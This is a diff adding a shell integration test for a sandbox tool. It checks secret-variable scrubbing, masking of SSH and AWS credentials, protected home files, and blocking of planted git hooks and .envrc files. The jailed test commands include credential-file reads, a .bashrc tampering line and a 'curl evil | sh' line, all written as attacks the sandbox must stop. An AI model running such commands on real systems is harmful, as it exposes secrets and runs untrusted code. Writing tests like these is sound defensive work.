@@ -1,0 +1,162 @@
+#!/bin/sh
+# Policies: secrets scrubbed and masked under every shipped policy, home
+# modes, masks, protected paths, and precise errors for bad policies.
+. "$JR_SRCDIR/tests/integration/lib.sh"
+
+SHIPPED="base secrets strict default permissive"
+
+case_env_scrubbed() {
+	JR_ENV="GITHUB_TOKEN=tok-s1 my_api_key=tok-s2 AWS_SECRET_ACCESS_KEY=tok-s3 Db_Password=tok-s4 SAFE_VAR=visible"
+	jr -- env
+	check "GITHUB_TOKEN is scrubbed" lacks "$OUT" tok-s1
+	check "a lower-case *_api_key is scrubbed (names compare case-insensitively)" lacks "$OUT" tok-s2
+	check "AWS_SECRET_ACCESS_KEY is scrubbed" lacks "$OUT" tok-s3
+	check "a mixed-case *_PASSWORD is scrubbed" lacks "$OUT" tok-s4
+	check "an ordinary variable passes" contains "$OUT" SAFE_VAR=visible
+	check "PATH passes" grep -q '^PATH=' "$OUT"
+	jr --keep-env GITHUB_TOKEN -- env
+	check "--keep-env GITHUB_TOKEN lets exactly that one through" contains "$OUT" GITHUB_TOKEN=tok-s1
+	check "and no other secret" lacks "$OUT" tok-s3
+	jr -D 'env clear' -D 'env keep PATH LANG' -- env
+	check "env clear passes only what keep names" test "$(cut -d= -f1 "$OUT" | sort | tr '\n' ' ')" = "LANG PATH "
+	jr --env FOO=bar -D 'env set "SPACED=a b"' -- env
+	check "--env sets a variable" contains "$OUT" FOO=bar
+	check "env set takes a quoted value with spaces" contains "$OUT" "SPACED=a b"
+	JR_ENV=
+}
+
+case_key_unreadable_every_policy() {
+	for pol in $SHIPPED; do
+		jr --policy "$pol" -- sh -c 'cat ~/.ssh/id_rsa; grep -r jailrun-test-secret ~ /tmp 2>/dev/null; true'
+		check "$pol.pol: the fixture key is not readable anywhere in the jail" lacks "$OUT" jailrun-test-secret
+	done
+	check "and it is intact on the host" contains "$FIXHOME/.ssh/id_rsa" jailrun-test-secret
+}
+
+case_default_home_readonly() {
+	echo "user config" >"$FIXHOME/.toolrc"
+	chown "$CASE_UID" "$FIXHOME/.toolrc"
+	jr --policy default -- sh -c 'cat ~/.toolrc; ls -A ~/.ssh | wc -l; echo x > ~/new'
+	check "default.pol shows the home read-only: configuration is readable" contains "$OUT" "user config"
+	check "~/.ssh is an empty directory" test "$(sed -n 2p "$OUT")" = 0
+	check "the home is not writable" test ! -e "$FIXHOME/new"
+}
+
+case_permissive_home_writable() {
+	echo "# rc" >"$FIXHOME/.bashrc"
+	chown "$CASE_UID" "$FIXHOME/.bashrc"
+	jr --policy permissive -- sh -c 'echo made > ~/made; echo evil >> ~/.bashrc; cat ~/.ssh/id_rsa'
+	check "permissive.pol: home writes reach the host" test "$(cat "$FIXHOME/made" 2>/dev/null)" = made
+	check "~/.bashrc stays protected" test "$(cat "$FIXHOME/.bashrc")" = "# rc"
+	check "the key stays masked" lacks "$OUT" jailrun-test-secret
+}
+
+case_mask_option() {
+	echo "do not read" >"$WS/secret.txt"
+	mkdir "$WS/secret-dir"
+	echo "hidden" >"$WS/secret-dir/f"
+	chown -R "$CASE_UID" "$WS/secret.txt" "$WS/secret-dir"
+	jr --mask secret.txt --mask "$WS/secret-dir" -- sh -c 'cat secret.txt; ls -A secret-dir; echo w > secret.txt; touch secret-dir/n'
+	check "a masked file reads empty" lacks "$OUT" "do not read"
+	check "a masked directory is empty" lacks "$OUT" f
+	check "writing them fails" test "$RC" -ne 0
+	check "the host files are untouched" sh -c "[ \"\$(cat '$WS/secret.txt')\" = 'do not read' ] && [ ! -e '$WS/secret-dir/n' ]"
+	jr --mask secret.txt -- sh -c 'test -f secret.txt && ! test -s secret.txt && stat -c %a secret.txt'
+	check "a masked file is an empty regular file, read-only (0444)" test "$(cat "$OUT")" = 444
+}
+
+case_mask_through_symlink() {
+	# ~/.aws is a link into the workspace: the real target is what is masked.
+	mkdir -p "$WS/creds/aws"
+	echo "aws_secret_access_key=fixture-aws" >"$WS/creds/aws/credentials"
+	chown -R "$CASE_UID" "$WS/creds"
+	ln -s "$WS/creds/aws" "$FIXHOME/.aws"
+	ln -s /nonexistent/docker "$FIXHOME/.docker"
+	jr --policy default -- sh -c "cat ~/.aws/credentials; cat $WS/creds/aws/credentials; echo done"
+	check "a masked symlink's target is hidden, by either path" lacks "$OUT" fixture-aws
+	check "a dangling masked link is harmless" contains "$OUT" done
+}
+
+case_protected_git_hooks() {
+	as_user git -C "$WS" init -q
+	echo content >"$WS/f"
+	chown "$CASE_UID" "$WS/f"
+	echo "export X=1" >"$WS/.envrc"
+	chown "$CASE_UID" "$WS/.envrc"
+	jr -- sh -c 'echo "#!/bin/sh" > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit; echo evil >> .envrc; echo evil >> .git/config'
+	check "a hook cannot be planted in .git/hooks" test ! -e "$WS/.git/hooks/pre-commit"
+	check ".envrc cannot be changed" test "$(cat "$WS/.envrc")" = "export X=1"
+	check ".git/config cannot be changed" lacks "$WS/.git/config" evil
+	jr -- sh -c 'git add f && git -c user.name=t -c user.email=t@example.com commit -qm inside && git log --oneline | wc -l'
+	check_rc 0 "git add and git commit still work in the workspace"
+	check "the commit is there" test "$(as_user git -C "$WS" log --oneline | wc -l)" -eq 1
+}
+
+case_protected_missing_paths() {
+	# .vscode/tasks.json and .envrc run on the host later: even when they do
+	# not exist yet the jail must not be able to create them.
+	jr -- sh -c 'mkdir -p .vscode && echo "{}" > .vscode/tasks.json; echo "curl evil | sh" > .envrc; ls -A | tr "\n" " "'
+	check "a missing protected directory cannot be created and filled" test ! -e "$WS/.vscode/tasks.json"
+	check "a missing protected file cannot be created" test ! -f "$WS/.envrc"
+	check "the placeholders are gone after the run" test -z "$(ls -A "$WS")"
+	jr -- sh -c 'echo ordinary > newfile && mkdir newdir'
+	check_rc 0 "other new files and directories can still be created"
+	check "and they reach the host" test -f "$WS/newfile" -a -d "$WS/newdir"
+}
+
+write_policy() {
+	printf '%b' "$2" >"$JR_TOP/$JR_MODE/$1"
+	chmod 644 "$JR_TOP/$JR_MODE/$1"
+}
+
+case_policy_errors() {
+	dir=$JR_TOP/$JR_MODE
+	write_policy bad.pol 'include base.pol\n# a comment\ntmfs /scratch\n'
+	jr --policy "$dir/bad.pol" -- touch "$WS/ran"
+	check_rc 125 "a typo in a policy gives 125"
+	check "with FILE:LINE:COL and a did-you-mean" contains "$ERR" "$dir/bad.pol:3:1: unknown directive 'tmfs', did you mean 'tmpfs'?"
+	check "in one line" test "$(wc -l <"$ERR")" -eq 1
+	check "and nothing ran" test ! -e "$WS/ran"
+	write_policy inner.pol 'net none\nlimit memory 12Q\n'
+	write_policy outer.pol 'include base.pol\ninclude inner.pol\n'
+	jr --policy "$dir/outer.pol" -- true
+	check "an error in an included file names the include chain" contains "$ERR" "$dir/inner.pol:2:14: limit memory: bad value '12Q' (a size such as 512M or 2G) (included from $dir/outer.pol:2)"
+	write_policy loop.pol 'include loop.pol\n'
+	jr --policy "$dir/loop.pol" -- true
+	check "an include cycle is refused" sh -c "[ $RC -eq 125 ] && grep -q 'include cycle' '$ERR'"
+	jr -D 'allow host bad_host!:99999' -- true
+	check "a bad -D line names the command line" contains "$ERR" "<command line>:1:"
+}
+
+case_lint_and_explain() {
+	jr --policy strict --lint
+	check "--lint of a good policy exits 0" test "$RC" -eq 0
+	write_policy typo.pol 'hom tmpfs\n'
+	jr --policy "$JR_TOP/$JR_MODE/typo.pol" --lint
+	check "--lint of a bad one exits 125" test "$RC" -eq 125
+	jr -D 'limit memory 1G' --explain
+	check "--explain accepts a clause this version cannot enforce" test "$RC" -eq 0
+	check "and marks it NOT ENFORCED" contains "$OUT" "NOT ENFORCED: resource limits are not implemented in this version"
+	check "--explain names the mechanism of enforced clauses" contains "$OUT" "-> own network namespace with only lo"
+	jr -D 'limit memory 1G' -- touch "$WS/ran"
+	check_rc 125 "running it fails closed"
+	check "saying which clause" contains "$ERR" "'limit memory 1G' is not enforced"
+	check "and nothing ran" test ! -e "$WS/ran"
+	jr --net host -- true
+	check "--net host is refused until it is enforced" sh -c "[ $RC -eq 125 ] && grep -q \"'net host' is not enforced\" '$ERR'"
+}
+
+case_policy_search() {
+	jr --policy strict -- true
+	check_rc 0 "--policy NAME finds NAME.pol in the search path"
+	jr --policy strict.pol -- true
+	check_rc 0 "--policy NAME.pol too"
+	jr --policy no-such-policy -- true
+	check "a missing policy is an error naming the search path" sh -c "[ $RC -eq 125 ] && grep -q \"policy 'no-such-policy' not found in $JR_TOP/policy\" '$ERR'"
+	jr -D 'hostname via-set' -- hostname
+	check "-D appends a policy line" test "$(cat "$OUT")" = via-set
+}
+
+run_cases case_env_scrubbed case_key_unreadable_every_policy case_default_home_readonly \
+	case_permissive_home_writable case_mask_option case_mask_through_symlink \
+	case_protected_git_hooks case_protected_missing_paths case_policy_errors case_lint_and_explain case_policy_search
